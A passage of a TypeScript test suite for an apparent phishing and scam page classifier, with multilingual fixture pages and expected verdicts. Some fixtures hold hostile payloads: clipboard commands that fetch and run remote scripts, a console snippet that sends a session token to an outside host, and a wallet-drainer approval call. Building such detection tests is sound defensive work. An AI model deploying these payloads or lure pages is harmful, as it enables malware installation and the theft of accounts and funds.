      const fields = '<form method="post"><input name="user" placeholder="User ID"><input type="password" name="pw" placeholder="Password"><input name="cc" autocomplete="cc-number" placeholder="Card number (for verification)"><button>Log in</button></form>';
      decides('card-with-password', 'https://esunbank-tw.example/login', `<title>個人網路銀行</title><h1>E.SUN Commercial Bank</h1>${fields}`);
      clean(judge('https://www.lumen-outfitters.example/checkout', `<title>Checkout | Lumen Outfitters</title><h1>Lumen Outfitters</h1><p>Create an account to track your order.</p>${fields}<footer>© 2026 Lumen Outfitters</footer>`));
    });

    it('a throwaway TLD counts as one of the two kit traits beside credentials on a page that does not name its host', () => {
      const page = '<title>AIS Points</title><h1>Your points expire today</h1><p>Your 9,850 points will expire today. Redeem them now.</p><form method="post"><input name="cc" autocomplete="cc-number"><input name="cvv" autocomplete="cc-csc"></form>';
      const kit = judge('https://points.th-redeem.online/', page);
      assert.ok(kit.decidedBy?.includes('combo:kit-traits-credentials'), JSON.stringify(ids(kit)));
    });

    it('Portuguese "no Pix" (in the Pix) is not a negation; fake shops in Portuguese and Malay: a bare "-78%" badge, transfer only, a personal account holder, the receipt over WhatsApp', () => {
      decides('fake-shop', 'https://ofertas-blackfriday.example/produto/iphone', '<h1>iPhone 15 Pro Max 256GB</h1><p>BLACK FRIDAY · -78% R$ 9.299,00 R$ 1.997,00 no Pix · Restam apenas 4 unidades. Pagamento somente via Pix (cartão indisponível durante a Black Friday).</p>');
      decides('private-payee', 'https://gudang-clearance.example/', '<h1>Jualan penutupan gudang – diskaun 85%</h1><p>Buat pindahan ke akaun: Maybank 1640 2288 1937 — NURUL AINA BT ISMAIL (wakil jualan gudang). Hantar resit ke WhatsApp +60 11-2739 0045.</p>');
    });

    it('a fee to settle before delivery and card fields to pay it, on a page that does not name its host, is a kit; the carrier naming its own site is not', () => {
      const page = (footer: string): string => `<title>Waybill TCG88410273</title><h1>Waybill TCG88410273 — On hold</h1><p>An outstanding customs &amp; handling fee of R 24.50 must be settled before delivery can be scheduled.</p><form method="post"><input name="cc" autocomplete="cc-number" placeholder="Card number"><input name="cvv" autocomplete="cc-csc"><button>Pay R 24.50</button></form>${footer}`;
      decides('fee-before-card', 'https://courier-za.parcel-release.example/waybill/TCG88410273', page(''));
      clean(judge('https://www.swiftparcel.example/waybill/TCG88410273', page('<footer>© 2026 SwiftParcel (Pty) Ltd</footer>')));
    });

    it("a password box that asks for another account's password (network, e-mail) on a page that does not name its host is a kit; a company's own webmail asking for its e-mail password is not", () => {
      const form = (label: string): string => `<form method="post"><label>Work email <input type="email" name="email"></label><label>${label} <input type="password" name="pw"></label><button>Continue</button></form>`;
      decides('foreign-password', 'https://pay-northfield-foods.example/employee/review', `<title>Northfield Foods – Pay review</title><h1>Your 2026 pay review</h1><p>Please acknowledge it before Friday.</p>${form('Network password')}`);
      clean(judge('https://mail.tallybird.example/', `<title>Tallybird Webmail</title><h1>Tallybird Webmail</h1>${form('Email password')}<footer>© 2026 Tallybird</footer>`));
      // A company's VPN gateway under the product's title asks for the domain password it checks.
      const gateway = judge('https://vpn.kestrel-logistics.example/global-protect/login.esp', `<title>GlobalProtect Portal</title><h1>GlobalProtect Portal</h1>${form('Domain password')}`);
      clean(gateway);
      assert.ok(!ids(gateway).includes('foreign-password-field'), JSON.stringify(ids(gateway)));
    });

    it('a small toll, fine or customs fee paid by card on a page that names nobody is a smishing kit; the toll operator naming its own site, or a government portal, is not', () => {
      const card = '<form method="post"><input name="plate" placeholder="Licence plate"><input name="cc" autocomplete="cc-number" placeholder="Card number"><input name="exp" placeholder="MM/YY"><input name="cvv" placeholder="CVV"><button>Pay</button></form>';
      decides('fee-card-form', 'https://toll-settlement-notice.example/case', `<title>Unpaid toll</title><h1>Unpaid toll</h1><p>Amount due: $6.80. A $50 late fee applies after 3 days.</p>${card}`);
      clean(judge('https://www.riverbridge-tolls.example/pay', `<title>Pay a toll | Riverbridge Tolls</title><h1>Unpaid toll</h1><p>Amount due: $6.80.</p>${card}<footer>© 2026 Riverbridge Tolls</footer>`));
      clean(judge('https://fines.transport.gov.uk/pay', `<title>Pay a penalty notice</title><h1>Parking fine</h1><p>Amount due: £35.00.</p>${card}`));
      // A QR sticker on a parking meter: pay for parking by card on a page that names nobody; the operator's own page names itself.
      decides('fee-card-form', 'https://pay-parking-zone.example/zone/4417', `<title>Pay for parking – Zone 4417</title><h1>Quick Pay Parking</h1><p>1 hour – £1.60 · All day – £6.50</p>${card}`);
      clean(judge('https://www.northgate-carparks.example/pay', `<title>Pay for parking | Northgate Car Parks</title><h1>Northgate Car Parks</h1><p>1 hour – £1.60 · All day – £6.50</p>${card}<footer>© 2026 Northgate Car Parks Ltd</footer>`));
      // A delicatessen ("épicerie fine") checkout: a basket of items, delivery and a total is a shop, not a fee.
      clean(judge('https://www.epicerie-maison-lavande.example/commande/paiement', `<title>Paiement - Maison Lavande, épicerie fine</title><h2>Paiement</h2><p>Comté 18 mois × 1 — 14,20 € · Miel de lavande × 2 — 19,00 € · Livraison — 8,50 € · Total : 41,70 €</p>${card}`));
    });

    it('Central European and Nordic kits: "the buyer has paid" (Czech, Serbian Cyrillic) and "you are entitled to compensation" (Swedish) beside a card to receive it; a parking fine and a customs fee named in Swedish and Hungarian; a marketplace\'s own payout page naming itself is not', () => {
      const card = '<form><input name="cc" autocomplete="cc-number"><input name="exp" autocomplete="cc-exp"><input name="cvv" autocomplete="cc-csc"><button>OK</button></form>';
      decides('payout-card-form', 'https://inzerce-bezpecna-platba.example/prijem/7', `<title>Bezpečná platba</title><p>Kupující za váš inzerát zaplatil 8 400 Kč. Vyplňte údaje karty, na kterou chcete peníze přijmout.</p>${card}`);
      decides('payout-card-form', 'https://oglasi-isplata.example/oglas/7', `<title>Безбедна купопродаја</title><p>Купац Марко П. је уплатио 12.000 дин. за ваш оглас. Унесите податке картице.</p>${card}`);
      decides('payout-card-form', 'https://elpris-ersattning.example/ansok', `<title>Ansökan</title><p>Hushåll i elområde 4 har rätt till kompensation för höga elpriser.</p>${card}`);
      decides('fee-card-form', 'https://stad-betala.example/p/', `<title>Betala felparkeringsavgift</title><p>Belopp 650 kr</p>${card}`);
      decides('fee-card-form', 'https://csomag-vam.example/k/', `<title>Vámkezelési díj</title><p>Fizetendő: 1 890 Ft</p>${card}`);
      decides('fee-card-form', 'https://posta-colet.example/ro/', `<title>Taxă de livrare colet</title><p>Coletul dumneavoastră așteaptă plata: 4,99 lei</p>${card}`);
      // Romanian "colet" (parcel) names the subject as a word; Spanish "coletas" (hair ties) in a shop's title is not a parcel.
      clean(judge('https://lazos-y-coletas.example/pago', `<title>Coletas de seda – pago</title><p>Total: 4,90 €</p>${card}`));
      clean(judge('https://www.bazar-vlastni.example/platba/prijem', `<title>Příjem platby | Bazar Vlastní</title><h1>Bazar Vlastní</h1><p>Kupující zaplatil 8 400 Kč. Peníze vám pošleme na účet uvedený v profilu.</p><footer>© 2026 Bazar Vlastní s.r.o.</footer>`));
    });

    it('a seller declining PayPal and cards "because of past fraud" is not an article about fraud: the puppy seller asking for gift cards, no visits and a crate fee first is a scam; an article quoting such a seller stays clean', () => {
      const seller = 'Pay the adoption fee via Zelle or Walmart gift cards. We do not accept PayPal or credit cards because of past fraud. Sorry, no visits at this time. A refundable crate and insurance fee of $1,200 is required before the flight.';
      const page = judge('https://sunny-meadow-pups.example/available', `<title>Available Puppies | Sunny Meadow</title><h1>Available puppies</h1><p>Bella – Blue Fawn Female, 10 weeks, vaccinated and vet checked, $650.</p><p>Milo – Lilac Male, 11 weeks, microchipped, $700.</p><p>Coco – Cream Female, 9 weeks, potty trained, $650.</p><p>All puppies come with papers, toys and a two-year health guarantee. Text us to reserve your baby.</p><p>${seller}</p>`);
      assert.equal(page.verdict, 'malicious', JSON.stringify(ids(page)));
      clean(judge('https://www.consumer-news.example/pets/puppy-scams', `<title>Puppy scams are back</title><h1>How puppy scams work</h1><p>${'Scammers advertise puppies that do not exist and ask for more and more fees before delivery. '.repeat(4)}One ad we found read: "${seller}"</p>`));
    });

    it('a fee first with the conversation moved to WhatsApp or Telegram, on a page naming nobody as its host\'s own, is a scam; a bakery taking orders over WhatsApp under its own name is not', () => {
      decides('messenger-handoff', 'https://remote-jobs-daily.example/apply', '<title>Work from home</title><h1>Online assistant wanted</h1><p>A registration fee of $25 must be paid before you can start.</p><p><a href="https://wa.me/15551234567">Contact our recruiter on WhatsApp</a></p>');
      decides('messenger-handoff', 'https://werken-bij-reviews.example/vacature', '<title>Vacature: thuiswerker</title><p>Om je account te activeren betaal je een eenmalige borg van € 50.</p><a href="https://wa.me/31612457251">Solliciteer via WhatsApp</a>');
      decides('messenger-handoff', 'https://app.task-rating-hub.example/tasks', '<title>Tasks</title><p>A registration fee of $25 must be paid before you can start.</p><a href="https://t.me/task_mentor_amy">Telegram</a>');
      clean(judge('https://www.panaderia-rosales.example/pedidos', '<title>Pedidos | Panadería Rosales</title><h1>Panadería Rosales</h1><p>Pedidos por WhatsApp. Costo de envío: $25.</p><a href="https://wa.me/5215512345678">WhatsApp</a><footer>© 2026 Panadería Rosales</footer>'));
    });

    it('scams in Central European and Nordic languages: a locked computer and a detected trojan in Romanian; a "secure account" with secrecy in Czech; a webcam threat in Hungarian beside a bitcoin address; a bank\'s warning about safe-account calls stays clean', () => {
      decides('tech-support-scam', 'https://alerta-pc.example/ro/', '<title>Alertă de securitate</title><h1>Computerul dumneavoastră a fost blocat</h1><p>Am detectat un troian: Trojan:Win32/Emotet. Sunați la Asistența Microsoft: 0800 400 123</p><script>window.onbeforeunload=function(){return "?"}</script>');
      decides('safe-account', 'https://ochrana-uctu.example/pripad/7', '<h1>Ochrana účtu</h1><p>Prostředky je nutné přesunout na dočasný zabezpečený účet. Nikomu o případu neříkejte.</p>');
      decides('extortion', 'https://ertesites.example/u/7', '<h1>Figyelem!</h1><p>Hozzáférést szereztem az eszközéhez. Ha nem akarja, hogy a videót elküldjem családjának, utaljon 900 USD értékű Bitcoint: bc1q9d4ywgfnd8h43da5tpcxcn6ajv590cg6d3tg6ax</p>');
      clean(judge('https://www.banka-vzor.example/bezpecnost/podvody', `<h1>Podvody: „bezpečný účet“</h1><p>${'Podvodníci volají jménem banky nebo ČNB a tvrdí, že je nutné přesunout peníze na bezpečný účet a nikomu o tom neříkat. Žádný bezpečný účet neexistuje. '.repeat(4)}</p><footer>© 2026 Banka Vzor</footer>`));
    });

    it('how scams want to be paid, in Nordic and Central European languages: a screenshot or receipt of the transfer sent by e-mail or message (an address with dots in it too); a landlord abroad who sends the keys; a clearance fee that must be paid (Croatian) to a bitcoin address', () => {
      decides('payment-proof', 'https://lejebolig-sikker.example/kontrakt/7', '<h1>Lejekontrakt</h1><p>Udlejer er p.t. udstationeret i Skotland; nøglerne sendes med DHL.</p><p>Lejer skal sende kvittering for overførsel til jens.hansen.bolig@gmail.com.</p>');
      decides('fee-to-crypto-address', 'https://courier-tracking.example/hr/7', '<h1>Praćenje pošiljke</h1><p>Za nastavak isporuke potrebno je platiti pristojbu za carinsko odobrenje: 1.850,00 EUR. BTC: bc1q9d4ywgfnd8h43da5tpcxcn6ajv590cg6d3tg6ax</p>');
      const receipt = judge('https://hyra-tryggt.example/bokning/7', '<h1>Bekräfta bokningen</h1><p>Värden har godkänt din förfrågan.</p><p>Betala deposition till förvaltarkontot. Skicka en skärmdump av överföringen till värden via meddelandefunktionen.</p>');
      assert.ok(ids(receipt).includes('payment-proof-text'), JSON.stringify(ids(receipt)));
    });

    it("a name dressing someone else's subdomain beside a file to run, or beside a wallet's request for rights over tokens, decides; the organisation's own download on its own host does not", () => {
      decides('subdomain-claim-payload', 'https://nra-uvedomlenie.bg-portal.example/dokument', '<title>НАП | Уведомление</title><h1>НАП</h1><p>Изтеглете уведомлението.</p><a href="/files/Uvedomlenie_2026.zip">Изтегли</a>');
      decides('wallet-lure-approval', 'https://mintverse-gr.free-mint.example/', '<title>Mintverse</title><h1>Mintverse</h1><button id="c">Connect</button><script>document.getElementById("c").onclick=async()=>{const [a]=await ethereum.request({method:"eth_requestAccounts"});await nft.setApprovalForAll("0x9f8f72aa9304c8b593d555f12ef6589cc3a579a2", true);}</script>');
      clean(judge('https://www.nra-example.bg/bg/downloads', '<title>Изтегляне | НАП Пример</title><h1>НАП Пример</h1><a href="/files/Deklaracia_2026.zip">Изтегли</a><footer>© 2026 НАП Пример</footer>'));
    });

    it('the fake news story of a celebrity\'s earnings, in Swedish and Finnish: earnings per week or month, trading by artificial intelligence either way round, the central bank demanding the clip removed, a minimum deposit; a newspaper\'s report on such ads stays clean', () => {
      decides('investment-scam', 'https://nyheter-idag.example/ekonomi/avslojar', '<h1>Känd programledare avslöjar hur han tjänar 60 000 kr i veckan</h1><p>Systemet handlar åt dig med artificiell intelligens. Riksbanken har krävt att klippet tas bort. Minsta insättning är 2 500 kr.</p>');
      decides('investment-scam', 'https://uutiset-tanaan.example/talous/paljastaa', '<h1>Tunnettu juontaja paljastaa: näin ansaitsen 12 000 € kuukaudessa</h1><p>Alusta käyttää tekoälyä kryptovaluuttakaupassa. Pankit eivät halua sinun tietävän tästä. Pienin talletus on 250 €.</p>');
      clean(judge('https://www.dagstidning-exempel.example/ekonomi/falska-annonser', `<h1>Falska annonser med kändisar lurar svenskar</h1><p>${'Bedragare använder kändisar i falska artiklar som påstår att de tjänar 90 000 kr i veckan med artificiell intelligens. Polisen varnar för bedrägeriet. '.repeat(4)}</p><footer>© 2026 Dagstidning Exempel</footer>`));
    });

    it('lures in Nordic and Central European languages: "has shared a file with you" beside a sign-in link to another site is a hand-off (Swedish, Czech); a city\'s own file portal naming itself and signing in on its own host is not', () => {
      decides('lure-signin-handoff', 'https://delad-fil-stad.example/', '<title>Stadskontoret har delat en fil med dig</title><h1>Stadskontoret har delat en fil med dig</h1><p>Faktura_2026.pdf</p><a href="https://login.mso-secure-portal.example/common/oauth2/authorize">Öppna dokument</a>');
      decides('lure-signin-handoff', 'https://sdileni-souboru.example/', '<title>Sdílený dokument</title><h1>Účetní oddělení s vámi sdílelo dokument</h1><a href="https://login.mso-secure-portal.example/common/oauth2/authorize">Otevřít</a>');
      clean(judge('https://soubory.mesto-vzor.example/sdileni', '<title>Sdílení souborů | Město Vzor</title><h1>Město Vzor</h1><p>Úřad s vámi sdílel dokument. Přihlaste se svým účtem města.</p><a href="https://login.mesto-vzor.example/">Přihlásit</a><footer>© 2026 Město Vzor</footer>'));
    });

    it('a small fee is read in the currency it is asked in (NT$ 112, 9.800 Ft, ₩3,000), and a Chinese toll subject inside a longer word; a fortune in forints is not a small fee, nor are four forint prices of a basket', () => {
      const card = '<form method="post"><input name="cc" autocomplete="cc-number"><input name="exp" autocomplete="cc-exp"><input name="cvv" autocomplete="cc-csc"><button>OK</button></form>';
      decides('fee-card-form', 'https://etc-toll.pay-notice.example/tw/', `<title>國道通行費欠費繳納</title><h1>國道通行費欠費通知</h1><p>欠費金額：NT$ 112，請於今日內完成繳費。</p>${card}`);
      decides('fee-card-form', 'https://autopalya-matrica.example/hu/', `<title>Útdíj – pótdíj fizetése</title><h1>Fine: unpaid motorway toll</h1><p>Fizetendő: 9.800 Ft</p>${card}`);
      decides('fee-card-form', 'https://parcel-redelivery.example/kr/', `<title>택배 재배송 관세 납부</title><h1>관세 미납 안내</h1><p>관세 ₩3,000 을 결제하시면 재배송됩니다.</p>${card}`);
      const fortune = judge('https://autopalya-matrica.example/hu/', `<title>Útdíj – pótdíj fizetése</title><h1>Fine: unpaid motorway toll</h1><p>Fizetendő: 129.800 Ft</p>${card}`);
      assert.ok(!ids(fortune).includes('fee-card-form'), JSON.stringify(ids(fortune)));
      const basket = judge('https://autopalya-matrica.example/hu/', `<title>Útdíj – pótdíj fizetése</title><h1>Fine: unpaid motorway toll</h1><p>Matrica 5.150 Ft · Pótdíj 2.800 Ft · Kezelési díj 450 Ft · Összesen 8.400 Ft</p>${card}`);
      assert.ok(!ids(basket).includes('fee-card-form'), JSON.stringify(ids(basket)));
    });

    it('paste-into-PowerShell steps beside a missing font or extension are ClickFix even before anything is copied; the same steps in docs are not; an APK whose page asks to enable Accessibility is a banker\'s delivery', () => {
      decides('clickfix-paste-pretext', 'https://office-docview.pages.dev/Contract.docx', '<title>Contract.docx - Word</title><h2>"Word Online" extension is not installed</h2><p>To open this document, the Word Online extension must be installed.</p><ol><li>Click the Copy button below</li><li>Right-click the Windows Start button and choose Windows PowerShell (Admin)</li><li>Right-click inside the window to paste, then press Enter</li></ol><button>Copy</button>');
      clean(judge('https://docs.toolsmith.example/install/windows', '<title>Install on Windows | Toolsmith docs</title><h1>Install on Windows</h1><p>Right-click the Start button and choose Windows PowerShell (Admin). Paste the following, then press Enter:</p><pre>winget install Toolsmith.CLI</pre><p>To run the script later, open it with PowerShell.</p><footer>© 2026 Toolsmith</footer>'));
      decides('malware-lure-download', 'https://land-tax-app.example/download/', '<title>Land tax app</title><h1>Download the app to receive your tax refund</h1><a href="/download/LandTaxPlus_3.2.1.apk">Download app (Android)</a><p>Open the app, then enable the Accessibility service so the app can scan your face.</p>');
    });

    it('a choice of e-mail providers to sign in with, to view a document, on a page naming nobody as its host\'s own is a lure; a mail app\'s own setup page offering the same choice is not', () => {
      const picker = '<p>Verify your email provider to access the document:</p><a href="/auth?p=o365">■ Office 365 / Outlook</a><a href="/auth?p=gmail">■ Gmail</a><a href="/auth?p=yahoo">■ Yahoo Mail</a><a href="/auth?p=other">■ Other mail</a>';
      decides('mail-provider-lure', 'https://envelope-review.example/Signing/Start', `<title>Secure document</title><h1>Please review and sign: Settlement_Statement.pdf</h1>${picker}`);
      clean(judge('https://www.inkpost-mail.example/setup', `<title>Add an account | Inkpost Mail</title><h1>Inkpost Mail</h1><p>Choose your provider:</p><ul><li>Office 365 / Outlook</li><li>Gmail</li><li>Yahoo Mail</li><li>Other mail</li></ul><footer>© 2026 Inkpost Mail</footer>`));
    });

    it('Run-dialog steps and a human check a negation precedes are a warning: an IT help page saying it will never ask to paste into Win+R to verify you are human stays clean; the same words as steps are ClickFix', () => {
      const kb = (warning: string) => `<title>KB1042: Fix DNS on campus Wi-Fi | Lakeview IT</title><h1>Fix "DNS server not responding"</h1><p>Open Command Prompt and run: ipconfig /flushdns</p><button onclick="navigator.clipboard.writeText('ipconfig /flushdns')">Copy</button><p>${warning}</p>`;
      clean(judge('https://helpdesk.lakeview-college.example/kb/1042', kb('Security reminder: IT will never ask you to paste commands into the Run box (Win+R) to "verify you are human" or to fix a web page.')));
      decides('clickfix-instructions', 'https://helpdesk.lakeview-college.example/kb/1042', kb('Security check: to "verify you are human", press Win+R, paste with Ctrl+V and press Enter.'));
    });

    it('a fake check in Czech and Lithuanian ("Nejsem robot", "nesate robotas") beside Run or Terminal steps is ClickFix; a macOS command that decodes base64 into bash -c on the clipboard is a shell command; a real install page\'s copy button is not', () => {
      decides('clickfix-instructions', 'https://www.zahradnictvi-example.cz/', '<h1>Zahradnictví</h1><div class="cf"><p>Ověřte, že jste člověk.</p><label><input type="checkbox"> Nejsem robot</label><ol><li>Stiskněte klávesu ⊞ Win + R</li><li>Do okna Spustit vložte Ctrl + V</li><li>Potvrďte klávesou Enter</li></ol></div>');
      // Open Run, paste, Enter inside the robot check: the whole routine is malicious even when no command was seen on the clipboard.
      const steps = judge('https://www.zahradnictvi-example.cz/', '<h1>Zahradnictví</h1><div class="cf"><p>Ověřte, že jste člověk.</p><label><input type="checkbox"> Nejsem robot</label><ol><li>Stiskněte klávesu ⊞ Win + R</li><li>Do okna Spustit vložte Ctrl + V</li><li>Potvrďte klávesou Enter</li></ol></div>');
      assert.ok(steps.decidedBy?.includes('combo:clickfix-steps') && steps.verdict === 'malicious', `${steps.verdict} by ${steps.decidedBy?.join(',')}`);
      // An IT page's Run-dialog and paste steps without a robot check stay below it.
      const help = judge('https://www.itc.example-univ.ac.jp/help/ipconfig.html', '<h1>IP address check</h1><ol><li>Press Win + R</li><li>Type cmd and paste the command with Ctrl + V</li><li>Press Enter</li></ol>');
      assert.ok(!help.decidedBy?.includes('combo:clickfix-steps'), `${help.verdict} by ${help.decidedBy?.join(',')}`);
      decides('clickfix-scripted-copy', 'https://www.receptai-example.lt/', '<h1>Cepelinai</h1><p>Patvirtinkite, kad nesate robotas</p><button id="b">Kopijuoti</button><script>document.getElementById("b").onclick=function(){navigator.clipboard.writeText("echo check && " + "/bin/zsh -c \\"$(curl -fsSL https://cdn-verify.example/i.sh)\\"")}</script>');
      const mac = judge('https://launcher-fix.example/mac', '<h1>Fix launcher error 1034</h1><p>Copy the command and paste it into Terminal.</p><button id="c">Copy</button><script>document.getElementById("c").onclick=function(){navigator.clipboard.writeText(\'/bin/bash -c "$(echo Y3VybCAtZnNTTCBodHRwczovL2V4YW1wbGUuaW52YWxpZC9oLnNoIHwgYmFzaA== | base64 -d)"\')}</script>');
      assert.ok(ids(mac).includes('clipboard-shell-command'), JSON.stringify(ids(mac)));
      assert.equal(mac.verdict, 'malicious');
      // A missing font said in Russian and Czech, whatever the word order, beside Run steps.
      decides('clickfix-paste-pretext', 'https://forum-example.su/t/88', '<h1>Тема</h1><p>Шрифт «Roboto Cyrillic» не найден. Как установить шрифт: нажмите Win + R, вставьте Ctrl + V, нажмите Enter.</p>');
      decides('clickfix-paste-pretext', 'https://recepty-example.cz/', '<h1>Recept</h1><p>Chybí písmo „Humanist CE“. Opravte to: stiskněte Win + R, vložte Ctrl + V a potvrďte Enter.</p>');
      // A national CERT's warning in Finnish quoting the fake check and its steps is a write-up.
      clean(judge('https://www.kyber-example.fi/ajankohtaista/valekaptchat', `<title>Vale-CAPTCHAt huijaavat käyttäjiä ajamaan haittakoodia</title><h1>Vale-CAPTCHAt huijaavat käyttäjiä</h1><p>${'Huijarit näyttävät väärennetyn «Vahvista, että olet ihminen» -ikkunan ja neuvovat painamaan Win + R, Ctrl + V ja Enter. Komento lataa haittaohjelman. '.repeat(4)}</p>`));
      clean(judge('https://docs.brewkit.example/install', '<title>Install | Brewkit docs</title><h1>Install Brewkit</h1><p>Paste this into Terminal:</p><pre id="cmd">/bin/bash -c "$(curl -fsSL https://docs.brewkit.example/install.sh)"</pre><button onclick="navigator.clipboard.writeText(document.getElementById(\'cmd\').textContent)">Copy</button><p>© 2026 Brewkit</p>'));
    });

    it('self-XSS: "open the console and paste this" beside code that reads the session token and sends it is the theft of the account; a guide that reads a token without sending it is not', () => {
      const code = "webpackChunkapp.push([[Symbol()],{},r=>{for(const m of Object.values(r.c)){const t=m.exports?.default?.getToken?.();if(t){fetch('https://badge-claim.example/api',{method:'POST',body:t});break}}}])";
      const grab = judge('https://badge-claim.example/apply', `<title>Get the Events badge</title><h1>Claim your badge</h1><p>Open the web app, press Ctrl + Shift + I and click the Console tab. Type allow pasting, then paste the code below and press Enter.</p><pre>${code}</pre>`);
      assert.ok(ids(grab).includes('console-token-paste'), JSON.stringify(ids(grab)));
      assert.equal(grab.verdict, 'malicious');
      assert.deepEqual(grab.categories.slice(0, 1), ['phishing']);
      const guide = judge('https://dev-notes.example/debug-auth', '<title>Debugging auth | Dev notes</title><h1>Check your session in the console</h1><p>Press F12, open the Console tab and paste: <code>document.cookie.split(";").length</code> to count your cookies.</p><p>© 2026 Dev notes</p>');
      assert.ok(!ids(guide).includes('console-token-paste'), JSON.stringify(ids(guide)));
      clean(guide);
    });

    it('an IT blog explaining fake-CAPTCHA attacks (Win+R, Ctrl+V, a defanged command) is a write-up, not a ClickFix page; so is a Spanish one', () => {
      clean(judge('https://www.cert-ciudadano.example/blog/falsos-captcha', '<title>Falsos CAPTCHA que te piden pegar comandos</title><h1>Falsos CAPTCHA que te piden pegar comandos</h1><p>Una técnica en auge, conocida como "ClickFix", muestra una supuesta verificación "No soy un robot" de reCAPTCHA y pide al usuario que pulse Windows + R, Ctrl + V e Intro. Al pulsar el botón, la web ha copiado en el portapapeles un comando como este: powershell -w h -nop -c "iex (irm https://verificacion-humana.example/c.txt)". Ningún CAPTCHA legítimo te pedirá ejecutar nada en tu equipo. Si lo has hecho, desconecta el equipo de la red y llama a la línea de ayuda de ciberseguridad.</p>'));
      const steps = '<p>After ticking the box, the page tells you to press Windows + R, then Ctrl + V, then Enter. The page has copied a command into your clipboard: powershell -w hidden -c "iex(irm hxxps://example[.]invalid/s.ps1)" (defanged).</p>';
      // A help centre's install steps, then a security note that names the trick as an attack.
      clean(judge('https://help.glenview-it.example/kb/printer-driver', '<title>KB0142 – Installing the office printer driver | Glenview IT Help</title><h1>Installing the office printer driver</h1><p>Managed clients with local admin rights can install the driver themselves. If you do not have admin rights, raise a ticket and we will push it through Intune instead; it takes about ten minutes.</p><p>1. Right-click the Start button and choose Terminal (Admin).</p><pre>winget install --id Brother.PrinterDriver -e</pre><p>Security note: only run commands from this help centre. A website asking you to press Win + R and paste something to "verify you are human" is an attack – close it and tell us.</p>'));
      clean(judge('https://blog.harbour-it.example/2026/11/fake-captcha-explained', `<title>Fake CAPTCHA "press Win+R" attacks explained – Harbour IT Blog</title><h1>Fake CAPTCHA attacks explained</h1><p>Several clients' staff met a page that looks like a reCAPTCHA check.</p>${steps}<p>The downloaded script usually installs an information stealer. ${'Block the Run dialog by Group Policy and log PowerShell script blocks. '.repeat(4)}</p>`));
    });

    it("a brand's customer-service line on a host the brand does not own is a fake helpdesk; a travel agency that names itself offering its own line is not", () => {
      const desk = (host: string, footer: string): ScanResult =>
        judge(`https://${host}/netflix/customer-service`, `<title>Netflix Customer Service ☎ +1-888-702-4417 | 24/7 Billing Help</title><h1>Netflix billing helpline</h1><p>Talk to a live agent now. Call +1-888-702-4417, agents available 24/7.</p>${footer}`);
      const fake = desk('stream-billing-helpdesk.example', '');
      assert.ok(fake.decidedBy?.includes('combo:brand-support-line'), JSON.stringify(ids(fake)));
      const agency = desk('www.harbourline-travel.example', '<footer>© 2026 Harbourline Travel Ltd</footer>');
      assert.ok(!agency.decidedBy?.includes('combo:brand-support-line'), JSON.stringify(ids(agency)));
      // A renewal "invoice" in the brand's name whose only way out is a number to call beside the alarm of an unauthorised charge.
      const renewal = judge('https://norton-billing-center.example/invoice/NLT-882019', '<title>Order Confirmation - Norton 360 Deluxe Renewal</title><h1>Thank you for your order</h1><p>Your subscription has been automatically renewed. Amount charged $549.99.</p><p>Didn\'t authorise this purchase? Call our Billing Department: +1 (888) 410-7752</p>');
      assert.ok(renewal.decidedBy?.includes('combo:brand-support-line'), JSON.stringify(ids(renewal)));
      // An IT company's own remote-support download with its helpdesk number: a line to call corroborates, it is no scam by itself.
      const it = judge('https://www.kestrel-it.example/support/remote', '<title>Remote support | Kestrel IT</title><h1>Start a remote support session</h1><p>If our engineer asked you to, download the support client and read the ID to them. You called our helpdesk on 0113 555 0100.</p><a href="/files/KestrelQuickSupport.exe">Download Kestrel QuickSupport (Windows)</a>');
      assert.ok(ids(it).includes('support-line-text'), JSON.stringify(ids(it)));
      clean(it);
    });

    it('a page that denies being a scam is not a write-up about scams; a news article in Hindi warning of lottery fraud is', () => {
      const filler = '<p>Withdrawals are processed every day by our finance team and credited to your bank account.</p>'.repeat(6);
      decides('advance-fee', 'https://payout-desk.example/claim', `<h1>Your prize of $25,000 is ready</h1><p>This is not a scam. To release your prize, pay the clearance fee of $300 first.</p>${filler}`);
      // A testimonial's doubt ("I thought it was a scam") and a shop's "chargeback fraud" are no warnings; a warning in the headline (a German compound too) or the body is.
      decides('fake-shop', 'https://luxe-outlet.example/bags', `<h1>Designer bags up to 90% off</h1><p>Warehouse closing down sale: everything must go.</p><p>Due to high chargeback fraud on luxury goods, card payments are temporarily unavailable.</p>${filler}`);
      decides('advance-fee', 'https://payout-desk.example/voucher', `<h1>Congratulations! You have won a $1,000 voucher</h1><p>To release your prize, pay the clearance fee of $4.99 first.</p>${filler}<p>“I thought it was a scam, but the voucher really came!” – Kasia</p>`);
      clean(judge('https://www.visa-service.example/warnung', `<title>Warnung vor Visabetrug</title><h1>Visa</h1><p>Niemand kann gegen Bezahlung ein Visum garantieren. Ihr Visum ist genehmigt, sobald Sie die Bearbeitungsgebühr von 300 Euro vorab per Western Union zahlen – so lauten die Nachrichten.</p>${['Antragstellende wenden sich ausschließlich an die Auslandsvertretungen.', 'Termine bei den Auslandsvertretungen sind kostenlos.', 'Die Gebühr für ein nationales Visum beträgt 75 Euro.', 'Sie wird nie an Privatpersonen gezahlt.', 'Melden Sie verdächtige Angebote der Polizei.', 'Weitere Informationen finden Sie auf den Seiten der Botschaften.'].map((p) => `<p>${p} Bitte lesen Sie die Hinweise sorgfältig.</p>`).join('')}`));
      clean(judge('https://www.seniors-tech.example/guides/fake-alerts', `<title>That scary “Your computer is infected” screen is fake</title><p>A box told you to call “Microsoft Support” at a toll-free number. Example of what scammers show: “ACCESS TO THIS PC HAS BEEN BLOCKED. Call Windows Support: +1-800-555-0100”.</p><p>The call centre will ask to connect to your computer remotely with AnyDesk and charge you hundreds of dollars, often in gift cards.</p>${['Press Esc to leave full-screen mode.', 'Open Task Manager and end your browser.', 'Do not restore the previous tabs.', 'Change your passwords from another device.', 'Call your bank if you paid anything.'].map((p) => `<p>${p} It takes a minute.</p>`).join('')}`));
      const article = judge('https://www.dainik-news.example/tech/kbc-lottery-fraud', `<title>KBC लॉटरी के नाम पर WhatsApp फ्रॉड: सावधान रहें</title><h1>KBC लॉटरी फ्रॉड</h1><p>ठग WhatsApp पर मैसेज भेजते हैं कि आपने ₹25,00,000 जीते हैं और फिर प्रोसेसिंग फीस मांगते हैं।</p><p>${'पुलिस के अनुसार ऐसे किसी भी मैसेज का जवाब न दें और तुरंत साइबर क्राइम हेल्पलाइन पर शिकायत करें। '.repeat(6)}</p>`);
      clean(article);
    });

    it('fake shops: closing-down prices on a site named after its goods by a page naming nobody; payment only by PayPal friends and family in German or French; a German consumer guide about fake shops is an article', () => {
